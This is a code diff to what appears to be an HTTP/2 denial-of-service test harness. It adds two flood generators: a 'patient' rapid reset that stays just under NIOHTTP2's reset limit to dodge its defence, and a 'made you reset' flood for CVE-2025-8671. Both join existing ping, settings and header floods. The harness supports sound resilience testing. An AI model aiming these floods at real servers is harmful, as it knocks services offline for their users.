@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import ssl
 from collections.abc import Callable, Iterator
+from itertools import islice
 
 from hpack import Encoder
 
@@ -12,6 +13,8 @@ from harness.billogram import CUSTOMERS
 
 PROBE = f"{CUSTOMERS}?page=1"
 FRAMES = 20_000
+PATIENT_STREAMS = 190
+"""NIOHTTP2 ends a connection with the 201st reset."""
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 SEND_SECONDS = 5.0
 SOURCE = "127.0.0.2"
@@ -52,6 +55,19 @@ def rapid_reset(endpoint: Endpoint, caller: ApiUser) -> Iterator[bytes]:
         yield frame(RST_STREAM, 0, number, (8).to_bytes(4, "big"))
 
 
+def patient_reset(endpoint: Endpoint, caller: ApiUser) -> Iterator[bytes]:
+    """Give up fewer streams than end a connection, and then open the next one."""
+    return islice(rapid_reset(endpoint, caller), 2 * PATIENT_STREAMS)
+
+
+def made_you_reset(endpoint: Endpoint, caller: ApiUser) -> Iterator[bytes]:
+    """Open streams and have the server reset each, for what may not follow (CVE-2025-8671)."""
+    block = request_block(endpoint, caller)
+    for number in range(1, FRAMES, 2):
+        yield frame(HEADERS, END_STREAM | END_HEADERS, number, block)
+        yield frame(DATA, 0, number, b"x")
+
+
 def pings(_: Endpoint, __: ApiUser) -> Iterator[bytes]:
     """Ask for acknowledgements that are never read (CVE-2019-9512)."""
     return (frame(PING, 0, 0, bytes(8)) for _ in range(FRAMES))
@@ -84,7 +100,16 @@ def header_bomb(endpoint: Endpoint, caller: ApiUser) -> Iterator[bytes]:
 
 FLOODS: dict[str, Flood] = {
     flood.__name__: flood
-    for flood in (rapid_reset, pings, settings, empty_data, continuations, header_bomb)
+    for flood in (
+        rapid_reset,
+        patient_reset,
+        made_you_reset,
+        pings,
+        settings,
+        empty_data,
+        continuations,
+        header_bomb,
+    )
 }
 
 
